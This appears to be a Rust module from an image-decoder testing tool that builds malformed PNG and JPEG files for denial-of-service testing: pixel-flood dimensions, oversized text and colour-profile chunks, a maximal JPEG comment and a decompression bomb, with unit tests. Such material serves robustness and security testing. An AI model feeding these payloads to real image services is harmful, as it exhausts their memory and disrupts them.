use crc32fast::Hasher;

use crate::binary_utils::update_value_be;
use crate::container::{
    self, CHUNK_OVERHEAD, IDAT_SIG, IEND_SIG, IHDR_SIG, LENGTH_FIELD_SIZE, Segment, SegmentCode,
    TYPE_FIELD_SIZE,
};
use crate::detect::{FormatError, JPEG_SOI, PNG_SIG};
use crate::types::{Format, RawImage};

const ICCP_SIG: [u8; 4] = *b"iCCP";
const TEXT_SIG: [u8; 4] = *b"tEXt";
const COM_MARKER_PREFIX: [u8; 2] = [0xFF, 0xFE];

/// PNG caps dimensions at 2^31 - 1.
const FLOOD_DIMENSION: u32 = 0x7FFF_FFFF;

const BOMB_WIDTH: u32 = 10_000;
const BOMB_HEIGHT: u32 = 10_000;
/// Undercounts the stream below so the chunk walk desynchronizes after it.
const BOMB_DECLARED_IDAT_LEN: u32 = 24;
const BOMB_IDAT_STREAM: [u8; 28] = [
    0x78, 0x9C, 0xED, 0xC1, 0x01, 0x0D, 0x00, 0x00, 0x00, 0xC2, 0xA0, 0xF7, 0x4F, 0x6D, 0x0F,
    0xA0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
];

const TEXT_KEYWORD: &[u8] = b"comment\0";
const TEXT_CHUNK_DATA_LEN: usize = 1 << 20;
const TEXT_FILLER_BYTE: u8 = b'A';

const ICCP_PROFILE_NAME: &[u8] = b"Profile\0";
const ICCP_CHUNK_DATA_LEN: usize = 1 << 20;

/// Maximal value of the 16-bit comment length field (counts its own two bytes).
const COM_DECLARED_LEN: u16 = 0xFFFF;

/// A stored-deflate stream for one white 1x1 truecolor scanline.
const SCAFFOLD_IDAT_STREAM: [u8; 15] = [
    0x78, 0x01, 0x01, 0x04, 0x00, 0xFB, 0xFF, 0x00, 0xFF, 0xFF, 0xFF, 0x05, 0xFE, 0x02, 0xFE,
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DosVariant {
    PixelFlood,
    LongBody,
    LongComment,
    DecompressionBomb,
    ColorProfile,
}

impl DosVariant {
    pub const ALL: [DosVariant; 5] = [
        DosVariant::PixelFlood,
        DosVariant::LongBody,
        DosVariant::LongComment,
        DosVariant::DecompressionBomb,
        DosVariant::ColorProfile,
    ];

    /// Tag used in output artifact names.
    pub fn tag(self) -> &'static str {
        match self {
            DosVariant::PixelFlood => "pixel_flood",
            DosVariant::LongBody => "long_body",
            DosVariant::LongComment => "long_comment",
            DosVariant::DecompressionBomb => "decompression_bomb",
            DosVariant::ColorProfile => "color_profile",
        }
    }

    /// The container format this variant emits, regardless of template format.
    pub fn output_format(self) -> Format {
        match self {
            DosVariant::LongComment => Format::Jpeg,
            _ => Format::Png,
        }
    }

    /// Produce the malformed artifact from a template image. Pure and
    /// deterministic: the same template always yields identical bytes.
    pub fn generate(self, template: &RawImage) -> Result<Vec<u8>, FormatError> {
        match self {
            DosVariant::PixelFlood => pixel_flood(template),
            DosVariant::LongBody => long_body(template),
            DosVariant::LongComment => Ok(long_comment(template)),
            DosVariant::DecompressionBomb => Ok(decompression_bomb(template)),
            DosVariant::ColorProfile => color_profile(template),
        }
    }
}

/// Assemble a PNG chunk: length, type, data, CRC over type + data.
pub fn png_chunk(name: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(CHUNK_OVERHEAD + data.len());
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    out.extend_from_slice(name);
    out.extend_from_slice(data);

    let mut hasher = Hasher::new();
    hasher.update(name);
    hasher.update(data);
    out.extend_from_slice(&hasher.finalize().to_be_bytes());
    out
}

/// Minimal valid 1x1 truecolor PNG, used as scaffolding when a PNG variant
/// is asked to work from a non-PNG template.
fn minimal_png_scaffold() -> Vec<u8> {
    let mut ihdr = Vec::with_capacity(13);
    ihdr.extend_from_slice(&1u32.to_be_bytes());
    ihdr.extend_from_slice(&1u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);

    let mut out = Vec::new();
    out.extend_from_slice(&PNG_SIG);
    out.extend_from_slice(&png_chunk(&IHDR_SIG, &ihdr));
    out.extend_from_slice(&png_chunk(&IDAT_SIG, &SCAFFOLD_IDAT_STREAM));
    out.extend_from_slice(&png_chunk(&IEND_SIG, &[]));
    out
}

fn minimal_jpeg_scaffold() -> Vec<u8> {
    let mut out = Vec::with_capacity(4);
    out.extend_from_slice(&JPEG_SOI);
    out.extend_from_slice(&[0xFF, 0xD9]);
    out
}

fn png_template(template: &RawImage) -> Vec<u8> {
    if template.format == Format::Png {
        template.bytes.clone()
    } else {
        minimal_png_scaffold()
    }
}

fn find_chunk(segments: &[Segment], sig: [u8; 4]) -> Option<Segment> {
    segments
        .iter()
        .find(|s| s.code == SegmentCode::Chunk(sig))
        .copied()
}

/// Rewrite the template's IHDR width/height to the 31-bit maximum while its
/// pixel data stays minimal, so decoders that size buffers from the header
/// allocate far beyond the actual payload.
fn pixel_flood(template: &RawImage) -> Result<Vec<u8>, FormatError> {
    let mut data = png_template(template);
    let segments = container::parse_png_chunks(&data)?;
    let ihdr = find_chunk(&segments, IHDR_SIG).ok_or(FormatError::Unsupported)?;
    if ihdr.declared_len < 8 {
        return Err(FormatError::Truncated { offset: ihdr.start });
    }

    let dims_index = ihdr.start + LENGTH_FIELD_SIZE + TYPE_FIELD_SIZE;
    update_value_be(&mut data, dims_index, FLOOD_DIMENSION, 4)
        .map_err(|_| FormatError::Truncated { offset: dims_index })?;
    update_value_be(&mut data, dims_index + 4, FLOOD_DIMENSION, 4)
        .map_err(|_| FormatError::Truncated { offset: dims_index })?;
    container::refresh_chunk_crc(&mut data, ihdr.start)?;

    Ok(data)
}

/// Insert one chunk-valid tEXt chunk carrying a large filler buffer in front
/// of the image data.
fn long_body(template: &RawImage) -> Result<Vec<u8>, FormatError> {
    let data = png_template(template);
    let segments = container::parse_png_chunks(&data)?;
    let anchor = find_chunk(&segments, IDAT_SIG)
        .or_else(|| find_chunk(&segments, IEND_SIG))
        .map_or(data.len(), |s| s.start);

    let mut text = Vec::with_capacity(TEXT_CHUNK_DATA_LEN);
    text.extend_from_slice(TEXT_KEYWORD);
    text.resize(TEXT_CHUNK_DATA_LEN, TEXT_FILLER_BYTE);
    let chunk = png_chunk(&TEXT_SIG, &text);

    let mut out = Vec::with_capacity(data.len() + chunk.len());
    out.extend_from_slice(&data[..anchor]);
    out.extend_from_slice(&chunk);
    out.extend_from_slice(&data[anchor..]);
    Ok(out)
}

/// Insert a comment segment with the maximal 16-bit length field directly
/// after SOI.
fn long_comment(template: &RawImage) -> Vec<u8> {
    let base = if template.format == Format::Jpeg {
        template.bytes.clone()
    } else {
        minimal_jpeg_scaffold()
    };

    let total = 2 + COM_DECLARED_LEN as usize;
    let mut segment = Vec::with_capacity(total);
    segment.extend_from_slice(&COM_MARKER_PREFIX);
    segment.extend_from_slice(&COM_DECLARED_LEN.to_be_bytes());
    segment.resize(total, TEXT_FILLER_BYTE);

    let mut out = Vec::with_capacity(base.len() + segment.len());
    out.extend_from_slice(&base[..JPEG_SOI.len()]);
    out.extend_from_slice(&segment);
    out.extend_from_slice(&base[JPEG_SOI.len()..]);
    out
}

/// A tiny file whose IHDR declares 10000x10000 pixels over a
/// maximally-compressible IDAT stream; the IDAT length field also
/// undercounts the stream (declared-vs-actual mismatch).
fn decompression_bomb(template: &RawImage) -> Vec<u8> {
    let mut out = Vec::new();
    if template.format == Format::Png {
        out.extend_from_slice(&template.bytes[..PNG_SIG.len()]);
    } else {
        out.extend_from_slice(&PNG_SIG);
    }

    let mut ihdr = Vec::with_capacity(13);
    ihdr.extend_from_slice(&BOMB_WIDTH.to_be_bytes());
    ihdr.extend_from_slice(&BOMB_HEIGHT.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    out.extend_from_slice(&png_chunk(&IHDR_SIG, &ihdr));

    out.extend_from_slice(&BOMB_DECLARED_IDAT_LEN.to_be_bytes());
    out.extend_from_slice(&IDAT_SIG);
    out.extend_from_slice(&BOMB_IDAT_STREAM);
    let mut hasher = Hasher::new();
    hasher.update(&IDAT_SIG);
    hasher.update(&BOMB_IDAT_STREAM);
    out.extend_from_slice(&hasher.finalize().to_be_bytes());

    out.extend_from_slice(&png_chunk(&IEND_SIG, &[]));
    out
}

/// Splice an oversized iCCP chunk between the template's IHDR and its image
/// data; any chunks between the two are dropped, as an embedded profile
/// takes their place.
fn color_profile(template: &RawImage) -> Result<Vec<u8>, FormatError> {
    let data = png_template(template);
    let segments = container::parse_png_chunks(&data)?;
    let ihdr = find_chunk(&segments, IHDR_SIG).ok_or(FormatError::Unsupported)?;
    let cut = ihdr.end();
    let resume = find_chunk(&segments, IDAT_SIG).map_or(cut, |s| s.start);

    let mut profile = Vec::with_capacity(ICCP_CHUNK_DATA_LEN);
    profile.extend_from_slice(ICCP_PROFILE_NAME);
    profile.push(0);
    profile.resize(ICCP_CHUNK_DATA_LEN, 0);
    let chunk = png_chunk(&ICCP_SIG, &profile);

    let mut out = Vec::with_capacity(cut + chunk.len() + data.len() - resume);
    out.extend_from_slice(&data[..cut]);
    out.extend_from_slice(&chunk);
    out.extend_from_slice(&data[resume..]);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::{
        BOMB_DECLARED_IDAT_LEN, BOMB_IDAT_STREAM, DosVariant, FLOOD_DIMENSION, png_chunk,
    };
    use crate::binary_utils::get_value_be;
    use crate::container::{IDAT_SIG, IHDR_SIG, SegmentCode, parse_png_chunks, parse_jpeg_segments};
    use crate::detect::{PNG_SIG, classify, detect_format};
    use crate::test_fixtures::{encode_rgb_png, minimal_jpeg};
    use crate::types::Format;

    #[test]
    fn generators_are_deterministic() {
        let template = classify(encode_rgb_png(16, 16)).expect("classify");
        for variant in DosVariant::ALL {
            let first = variant.generate(&template).expect("generate");
            let second = variant.generate(&template).expect("generate");
            assert_eq!(first, second, "{} must be deterministic", variant.tag());
        }
    }

    #[test]
    fn pixel_flood_rewrites_dimensions_in_place() {
        let template = classify(encode_rgb_png(16, 16)).expect("classify");
        let out = DosVariant::PixelFlood.generate(&template).expect("generate");

        assert_eq!(out.len(), template.bytes.len());
        assert_eq!(get_value_be(&out, 16, 4).expect("width"), FLOOD_DIMENSION);
        assert_eq!(get_value_be(&out, 20, 4).expect("height"), FLOOD_DIMENSION);

        // chunk walk still succeeds: only IHDR fields changed
        let segments = parse_png_chunks(&out).expect("parse");
        assert_eq!(segments[0].code, SegmentCode::Chunk(IHDR_SIG));

        let mut hasher = crc32fast::Hasher::new();
        hasher.update(&out[12..29]);
        assert_eq!(&out[29..33], hasher.finalize().to_be_bytes().as_slice());
    }

    #[test]
    fn long_body_inserts_a_valid_text_chunk_before_idat() {
        let template = classify(encode_rgb_png(16, 16)).expect("classify");
        let out = DosVariant::LongBody.generate(&template).expect("generate");

        let segments = parse_png_chunks(&out).expect("parse");
        let text_index = segments
            .iter()
            .position(|s| s.code == SegmentCode::Chunk(*b"tEXt"))
            .expect("tEXt chunk");
        assert!(segments[text_index].declared_len >= 1 << 20);
        assert_eq!(
            segments[text_index + 1].code,
            SegmentCode::Chunk(IDAT_SIG)
        );
        for segment in &segments {
            assert!(segment.end() <= out.len());
        }
    }

    #[test]
    fn long_comment_prepends_a_maximal_comment_segment() {
        let template = classify(minimal_jpeg()).expect("classify");
        let out = DosVariant::LongComment.generate(&template).expect("generate");

        assert_eq!(detect_format(&out), Ok(Format::Jpeg));
        let segments = parse_jpeg_segments(&out).expect("parse");
        assert_eq!(segments[0].code, SegmentCode::Marker(0xFE));
        assert_eq!(segments[0].start, 2);
        assert_eq!(segments[0].declared_len, 0xFFFF);
        assert_eq!(out.len(), template.bytes.len() + 2 + 0xFFFF);
    }

    #[test]
    fn long_comment_scaffolds_for_non_jpeg_templates() {
        let template = classify(encode_rgb_png(8, 8)).expect("classify");
        let out = DosVariant::LongComment.generate(&template).expect("generate");
        assert_eq!(detect_format(&out), Ok(Format::Jpeg));
        assert_eq!(&out[out.len() - 2..], &[0xFF, 0xD9]);
    }

    #[test]
    fn bomb_declares_more_than_it_carries() {
        let template = classify(encode_rgb_png(8, 8)).expect("classify");
        let out = DosVariant::DecompressionBomb
            .generate(&template)
            .expect("generate");

        assert_eq!(&out[..8], &PNG_SIG);
        assert_eq!(get_value_be(&out, 16, 4).expect("width"), 10_000);
        assert_eq!(get_value_be(&out, 20, 4).expect("height"), 10_000);

        let idat_length_index = 8 + 12 + 13;
        assert_eq!(
            get_value_be(&out, idat_length_index, 4).expect("idat len"),
            BOMB_DECLARED_IDAT_LEN
        );
        let stream_start = idat_length_index + 8;
        assert_eq!(
            &out[stream_start..stream_start + BOMB_IDAT_STREAM.len()],
            &BOMB_IDAT_STREAM
        );
        assert!(BOMB_IDAT_STREAM.len() > BOMB_DECLARED_IDAT_LEN as usize);
    }

    #[test]
    fn color_profile_keeps_ihdr_then_floods() {
        let template = classify(encode_rgb_png(16, 16)).expect("classify");
        let out = DosVariant::ColorProfile.generate(&template).expect("generate");

        let segments = parse_png_chunks(&out).expect("parse");
        assert_eq!(segments[0].code, SegmentCode::Chunk(IHDR_SIG));
        assert_eq!(segments[1].code, SegmentCode::Chunk(*b"iCCP"));
        assert_eq!(segments[1].declared_len, 1 << 20);
        assert_eq!(segments[2].code, SegmentCode::Chunk(IDAT_SIG));
    }

    #[test]
    fn png_variants_scaffold_for_non_png_templates() {
        let template = classify(minimal_jpeg()).expect("classify");
        for variant in [
            DosVariant::PixelFlood,
            DosVariant::LongBody,
            DosVariant::DecompressionBomb,
            DosVariant::ColorProfile,
        ] {
            let out = variant.generate(&template).expect("generate");
            assert_eq!(detect_format(&out), Ok(Format::Png), "{}", variant.tag());
        }
    }

    #[test]
    fn chunk_helper_emits_consistent_framing() {
        let chunk = png_chunk(b"tEXt", b"k\0v");
        assert_eq!(&chunk[..4], &3u32.to_be_bytes());
        assert_eq!(&chunk[4..8], b"tEXt");
        assert_eq!(&chunk[8..11], b"k\0v");

        let mut hasher = crc32fast::Hasher::new();
        hasher.update(&chunk[4..11]);
        assert_eq!(&chunk[11..], hasher.finalize().to_be_bytes().as_slice());
    }
}
